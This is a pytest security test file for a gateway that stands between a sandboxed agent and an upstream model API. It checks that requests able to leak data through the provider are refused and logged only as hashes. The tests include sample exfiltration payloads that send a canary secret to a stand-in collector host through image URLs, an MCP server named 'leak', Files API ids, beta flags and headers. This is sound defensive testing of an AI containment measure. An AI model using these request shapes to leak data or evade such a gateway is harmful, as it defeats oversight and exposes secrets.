"""Attacks on invariant 12 through the provider: URL and file sources, unlisted fields, betas, headers, surrogates.

Each attack sends a request a hostile sandbox could send over its gateway
socket, carrying a canary, to the real gateway with the real ``anthropic``
upstream aimed at a loopback provider. It holds when the gateway answers 400
(403 for a provider-side tool), nothing reaches the provider, and the
transcript keeps the refused request as size, sha256 and reason only.
"""

from __future__ import annotations

import copy
import hashlib
import json
import secrets
from pathlib import Path
from typing import Any

import anthropic
import httpx2
import pytest

from controller.gateway import read_transcript
from tests.security.gateway_kit import (
    HELLO,
    MODEL,
    TOKEN,
    anthropic_upstream,
    budget,
    client,
    gateway,
    provider,
)

pytestmark = pytest.mark.invariant(12)

CANARY = f"repo-secret-CANARY-{secrets.token_hex(8)}"
URL = f"https://collector.example.invalid/pixel.png?d={CANARY}"


def _with_content(*blocks: dict[str, Any]) -> dict[str, Any]:
    body = copy.deepcopy(HELLO)
    body["messages"] = [{"role": "user", "content": [{"type": "text", "text": "Look."}, *blocks]}]
    return body


def _with_field(name: str, value: Any) -> dict[str, Any]:
    return {**copy.deepcopy(HELLO), name: value}


PNG = "iVBORw0KGgo="

#: Requests that would make the provider reach elsewhere, keep data, or change where it runs.
EGRESS: dict[str, dict[str, Any]] = {
    "image url source": _with_content({"type": "image", "source": {"type": "url", "url": URL}}),
    "document url source": _with_content(
        {"type": "document", "source": {"type": "url", "url": URL}}
    ),
    "image Files API source": _with_content(
        {"type": "image", "source": {"type": "file", "file_id": f"file_{CANARY}"}}
    ),
    "document Files API source": _with_content(
        {"type": "document", "source": {"type": "file", "file_id": f"file_{CANARY}"}}
    ),
    "base64 image with a url beside it": _with_content(
        {
            "type": "image",
            "source": {"type": "base64", "media_type": "image/png", "data": PNG, "url": URL},
        }
    ),
    "document content source": _with_content(
        {
            "type": "document",
            "source": {"type": "content", "content": [{"type": "text", "text": CANARY}]},
        }
    ),
    "url image inside a tool result": {
        **copy.deepcopy(HELLO),
        "messages": [
            {"role": "user", "content": "Go."},
            {
                "role": "assistant",
                "content": [{"type": "tool_use", "id": "toolu_1", "name": "look", "input": {}}],
            },
            {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": "toolu_1",
                        "content": [{"type": "image", "source": {"type": "url", "url": URL}}],
                    }
                ],
            },
        ],
    },
    "search result block": _with_content(
        {
            "type": "search_result",
            "source": URL,
            "title": "t",
            "content": [{"type": "text", "text": CANARY}],
        }
    ),
    "container upload block": _with_content(
        {"type": "container_upload", "file_id": f"file_{CANARY}"}
    ),
    "text block citations with a url": _with_content(
        {
            "type": "text",
            "text": CANARY,
            "citations": [{"type": "web_search_result_location", "url": URL}],
        }
    ),
    "mcp_servers": _with_field("mcp_servers", [{"type": "url", "url": URL, "name": "leak"}]),
    "container": _with_field("container", {"skills": [{"type": "custom", "skill_id": CANARY}]}),
    "service_tier": _with_field("service_tier", "priority"),
    "speed": _with_field("speed", "fast"),
    "inference_geo": _with_field("inference_geo", "us"),
    "context_management": _with_field("context_management", {"edits": []}),
    "output_config": _with_field("output_config", {"effort": "high"}),
    "metadata beyond user_id": _with_field("metadata", {"user_id": "u", "note": CANARY}),
    "tool with allowed_callers": _with_field(
        "tools",
        [
            {
                "name": "look",
                "input_schema": {"type": "object"},
                "allowed_callers": ["code_execution_20250825"],
            }
        ],
    ),
    "tool schema with a remote $ref": _with_field(
        "tools",
        [
            {
                "name": "look",
                "input_schema": {
                    "type": "object",
                    "properties": {"a": {"items": [{"$ref": URL}]}},
                },
            }
        ],
    ),
    "web fetch server tool": _with_field(
        "tools", [{"type": "web_fetch_20250910", "name": "web_fetch"}]
    ),
}


@pytest.mark.parametrize("attack", sorted(EGRESS))
@pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages/count_tokens"])
def test_requests_that_leave_through_the_provider_are_refused(
    attack: str, path: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Invariant 12: a URL or file source, an unlisted block type, key or field never reaches the provider: 400 (403 for a server tool), recorded as size, sha256 and reason."""
    body = copy.deepcopy(EGRESS[attack])
    if path.endswith("count_tokens"):
        del body["max_tokens"]
    raw = json.dumps(body).encode()
    transcript = tmp_path / "transcript.jsonl"
    with (
        provider() as api,
        gateway(anthropic_upstream(api), budget(), transcript) as (served, sock),
        client(sock) as http,
    ):
        answer = http.post(path, content=raw, headers={"content-type": "application/json"})

    assert answer.status_code in (400, 403), answer.text
    error = answer.json()["error"]
    assert "not allowed" in error["message"] or "Extra inputs are not permitted" in error["message"]
    assert api.requests == []
    assert served.usage.requests == 0
    assert served.usage.refused_requests == 1
    (entry,) = read_transcript(transcript)
    assert entry.request.body is None
    assert entry.refusal is not None
    assert entry.refusal.body_bytes == len(raw)
    assert entry.refusal.body_sha256 == hashlib.sha256(raw).hexdigest()
    assert entry.refusal.reason == error["message"]
    assert CANARY not in transcript.read_text(encoding="utf-8")
    assert CANARY not in caplog.text


def test_betas_pass_only_when_the_policy_names_them(tmp_path: Path) -> None:
    """Invariant 12: an anthropic-beta flag is refused with 400 unless the run's policy names it; a named one is forwarded."""
    transcript = tmp_path / "transcript.jsonl"
    with provider() as api:
        with (
            gateway(anthropic_upstream(api), budget(), transcript) as (_, sock),
            client(sock) as http,
        ):
            refused = http.post(
                "/v1/messages", json=HELLO, headers={"anthropic-beta": "files-api-2025-04-14"}
            )
            hidden = http.post(
                "/v1/messages/count_tokens",
                json={k: v for k, v in HELLO.items() if k != "max_tokens"},
                headers={"anthropic-beta": f"mcp-client-2025-04-04,{CANARY}"},
            )
        assert api.requests == []
        named = budget(allowed_betas=["context-1m-2025-08-07"])
        with gateway(anthropic_upstream(api), named) as (_, sock), client(sock) as http:
            allowed = http.post(
                "/v1/messages", json=HELLO, headers={"anthropic-beta": "context-1m-2025-08-07"}
            )

    assert (refused.status_code, hidden.status_code, allowed.status_code) == (400, 400, 200)
    assert "files-api-2025-04-14 is not allowed by this run's policy" in refused.text
    assert [headers.get("anthropic-beta") for _, headers, _ in api.requests] == [
        "context-1m-2025-08-07"
    ]
    assert CANARY not in transcript.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "header",
    [
        ("anthropic-dangerous-direct-browser-access", "true"),
        ("anthropic-workspace-id", "wrkspc_other"),
        ("x-forwarded-for", "203.0.113.9"),
        ("idempotency-key", CANARY),
    ],
)
def test_unlisted_headers_are_refused(header: tuple[str, str]) -> None:
    """Invariant 12: a request header outside the gateway's allowlist is refused with 400 naming it; nothing goes upstream."""
    with (
        provider() as api,
        gateway(anthropic_upstream(api), budget()) as (served, sock),
        client(sock) as http,
    ):
        answer = http.post("/v1/messages", json=HELLO, headers=dict([header]))

    assert answer.status_code == 400
    assert f"header {header[0]} is not allowed" in answer.json()["error"]["message"]
    assert api.requests == []
    assert served.usage.refused_requests == 1


@pytest.mark.parametrize(
    "raw",
    [
        b'"\\ud800"',  # a lone high surrogate
        b'"\\udfff tail"',  # a lone low surrogate
        b'"\\ud83d\\u0041"',  # a high surrogate followed by no low one
    ],
)
@pytest.mark.parametrize("where", ["text", "key"])
@pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages/count_tokens"])
def test_a_lone_surrogate_is_refused_before_admission(
    raw: bytes, where: str, path: str, tmp_path: Path
) -> None:
    """Invariant 12: a lone surrogate escape in a string or a key gets 400 before admission: not counted, not sent, recorded."""
    message = (
        b'{"role": "user", "content": ' + raw + b"}"
        if where == "text"
        else b'{"role": "user", "content": [{"type": "text", "text": "x", ' + raw + b": 1}]}"
    )
    head = b'{"model": "' + MODEL.encode() + b'", '
    if not path.endswith("count_tokens"):
        head += b'"max_tokens": 10, '
    body = head + b'"messages": [' + message + b"]}"
    transcript = tmp_path / "transcript.jsonl"
    with (
        provider() as api,
        gateway(anthropic_upstream(api), budget(), transcript) as (served, sock),
        client(sock) as http,
    ):
        answer = http.post(path, content=body, headers={"content-type": "application/json"})
        after = http.post("/v1/messages", json=HELLO)

    assert answer.status_code == 400
    assert "lone surrogate" in answer.json()["error"]["message"]
    assert after.status_code == 200  # the gateway is unharmed
    assert len(api.requests) == 1
    assert (served.usage.requests, served.usage.refused_requests) == (1, 1)
    first, second = read_transcript(transcript)
    assert first.status == 400
    assert first.turn is None
    assert first.refusal is not None
    assert first.refusal.body_sha256 == hashlib.sha256(body).hexdigest()
    assert second.turn == 1


def test_every_upstream_call_is_metered() -> None:
    """Invariant 12: count_tokens counts against the budget like a message: usage matches what reached the provider, and max_requests stops both."""
    count_body = {k: v for k, v in HELLO.items() if k != "max_tokens"}
    with (
        provider() as api,
        gateway(anthropic_upstream(api), budget(max_requests=6)) as (served, sock),
    ):
        sdk = anthropic.Anthropic(
            api_key=TOKEN,
            base_url="http://gateway",
            max_retries=2,
            http_client=anthropic.DefaultHttpxClient(transport=httpx2.HTTPTransport(uds=str(sock))),
        )
        with sdk:
            for _ in range(4):
                assert sdk.messages.count_tokens(**count_body).input_tokens == 7
            sdk.messages.create(**HELLO)
            sdk.messages.create(**HELLO)
            with pytest.raises(anthropic.RateLimitError, match="6 of 6 model requests used"):
                sdk.messages.count_tokens(**count_body)
            with pytest.raises(anthropic.RateLimitError):
                sdk.messages.create(**HELLO)
        usage = served.usage

    assert len(api.requests) == 6
    assert usage.requests == len(api.requests)
    assert usage.upstream_http_requests == len(api.requests)
    assert usage.count_tokens_requests == 4
    assert usage.message_requests == 2
    assert usage.refused_requests == 2
